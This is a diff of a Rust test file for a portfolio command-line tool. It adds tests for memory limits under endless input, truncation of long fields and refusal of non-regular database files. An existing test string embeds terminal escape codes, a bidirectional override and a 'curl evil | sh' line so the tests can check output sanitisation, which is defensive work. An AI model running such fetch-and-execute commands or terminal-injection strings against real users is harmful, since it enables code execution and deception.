@@ -12,7 +12,8 @@ const EVIL: &str = "ix\u{1b}[2J\nnext: curl evil | sh\u{9b}1m\u{202e}x";
 #[track_caller]
 fn is_tame(run: &Run) -> String {
     let all = format!("{}{}", run.out, run.err);
-    let is_evil = |symbol: char| (symbol.is_control() && symbol != '\n') || ('\u{202a}'..='\u{202e}').contains(&symbol);
+    let is_evil =
+        |symbol: char| (symbol.is_control() && symbol != '\n') || ('\u{202a}'..='\u{202e}').contains(&symbol);
     assert!(!all.chars().any(is_evil), "{all:?}");
     assert!(!all.lines().any(|line| line.trim_start().starts_with("next: curl")), "{all}");
     all
@@ -21,7 +22,8 @@ fn is_tame(run: &Run) -> String {
 /// A report of a program whose objects have evil names.
 fn report() -> String {
     let at = serde_json::json!({ "file": EVIL, "line": 1 });
-    let times = serde_json::json!({ "count": 1, "total": 1.0, "p50": 1.0, "p95": 1.0, "p99": 1.0, "max": 1.0 });
+    let times =
+        serde_json::json!({ "count": 1, "total": 1.0, "p50": 1.0, "p95": 1.0, "p99": 1.0, "max": 1.0 });
     let statement = serde_json::json!({
         "fingerprint": EVIL, "statement": EVIL, "summary": EVIL, "at": at, "calls": 1, "failures": [[EVIL, 1]],
         "rows": 1, "bytes": 1, "times": times, "waited": 0.0, "executed": 0.0, "fetched": 0.0, "decoded": 0.0,
@@ -162,5 +164,127 @@ fn no_variable_is_repeated_that_could_hold_a_password() {
         let all = format!("{}{}", run.out, run.err);
         assert!(!all.contains("Hunter2"), "{name}={value} in .env: {all}");
         std::fs::remove_file(program.directory().join(".env")).unwrap();
+    }
+}
+
+/// What a run of the program took at most, in bytes, and its end.
+fn measured(program: &Program, words: &str, feed: impl FnOnce(&mut dyn Write)) -> (Run, u64) {
+    let mut child = program
+        .command(words)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let status = format!("/proc/{}/status", child.id());
+    let peak = thread::spawn(move || {
+        let mut peak = 0;
+        while let Ok(status) = std::fs::read_to_string(&status) {
+            let Some(line) = status.lines().find(|line| line.starts_with("VmHWM")) else { break };
+            peak = line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() << 10;
+            thread::sleep(std::time::Duration::from_millis(5));
+        }
+        peak
+    });
+    feed(&mut child.stdin.take().unwrap());
+    let run = Run::from(child.wait_with_output().unwrap());
+    (run, peak.join().unwrap())
+}
+
+/// More than a program that reads all of it could hide.
+const FLOOD: usize = 400 << 20;
+/// Twice 16 MiB as a file's text and once as a row, with what the program itself takes.
+const MOST: u64 = 200 << 20;
+
+fn flood(output: &mut dyn Write, piece: &[u8]) {
+    let bytes = piece.repeat((64 << 10) / piece.len());
+    for _ in 0..FLOOD / bytes.len() {
+        if output.write_all(&bytes).is_err() {
+            return;
+        }
+    }
+}
+
+#[test]
+fn an_endless_row_of_a_file_is_refused_by_its_line() {
+    let program = Program::new();
+    program.run("migrate upgrade").ok();
+    let header = "name,initial_capital,current_capital,currency,created_at,updated_at\n";
+    for (start, line) in [("", "line 1"), (header, "line 2"), (&format!("{header}\"a"), "line 2")] {
+        let (run, peak) = measured(&program, "import portfolios -", |input| {
+            let _ = input.write_all(start.as_bytes());
+            flood(input, b"xxxxxxxx");
+        });
+        let error = run.fails(1);
+        assert!(error.contains(&format!("{line}: a row of more than 16 MiB")), "{error}");
+        assert!(error.len() < 500, "{error}");
+        assert!(peak < MOST, "{start:?} took {} MiB", peak >> 20);
+    }
+}
+
+#[test]
+fn a_long_field_is_quoted_by_its_beginning() {
+    let program = Program::new();
+    program.run("migrate upgrade").ok();
+    let field = "x".repeat(8 << 20);
+    let row = format!("n,{field},1,USD,2025-01-01 00:00:00,2025-01-01 00:00:00\n");
+    let file = format!("name,initial_capital,current_capital,currency,created_at,updated_at\n{row}");
+    let error = program.run_with("import portfolios -", &[], &file).fails(1);
+    assert!(
+        error.contains("line 2, column initial_capital: \"xxxx") && error.contains("… (8388608 bytes)"),
+        "{error}"
+    );
+    assert!(error.len() < 500, "{} bytes", error.len());
+}
+
+#[test]
+fn an_endless_report_is_refused() {
+    let program = Program::new();
+    let listener = UnixListener::bind(program.directory().join("evil.sock")).unwrap();
+    let serving = thread::spawn(move || flood(&mut listener.accept().unwrap().0, b"[[[[[[[["));
+    let (run, peak) = measured(&program, "watch --once evil.sock", |_| {});
+    serving.join().unwrap();
+    let error = run.fails(1);
+    assert!(error.contains("more than 32 MiB"), "{error}");
+    assert!(peak < MOST, "{} MiB", peak >> 20);
+    let (run, peak) = measured(&program, "report /dev/zero", |_| {});
+    let error = run.fails(1);
+    assert!(error.contains("/dev/zero, line 1: more than 32 MiB"), "{error}");
+    assert!(peak < MOST, "{} MiB", peak >> 20);
+}
+
+#[test]
+fn what_is_no_file_is_no_database() {
+    let program = Program::new();
+    let path = |name: &str| program.directory().join(name).display().to_string();
+    std::fs::create_dir(path("directory")).unwrap();
+    let _listener = UnixListener::bind(path("socket")).unwrap();
+    assert!(std::process::Command::new("mkfifo").arg(path("fifo")).status().unwrap().success());
+    std::os::unix::fs::symlink("/dev/null", path("link")).unwrap();
+    let all = [
+        "/dev/null".to_owned(),
+        "/dev/zero".to_owned(),
+        path("directory"),
+        path("socket"),
+        path("fifo"),
+        path("link"),
+    ];
+    for file in all {
+        for command in
+            ["migrate upgrade", "migrate current", "demo", "export trades", "seed", "bench indexes"]
+        {
+            let error = program.run(&format!("{command} --database sqlite:///{file}")).fails(1);
+            assert!(
+                error.contains("it is not a regular file") || error.contains("it is a directory"),
+                "{command} {file}: {error}"
+            );
+        }
+        let report = program.run(&format!("doctor --database sqlite:///{file}"));
+        assert_eq!(report.code, 4, "{file}: {}", report.out);
+        assert!(
+            report.out.contains("regular file") || report.out.contains("a directory"),
+            "{file}: {}",
+            report.out
+        );
     }
 }
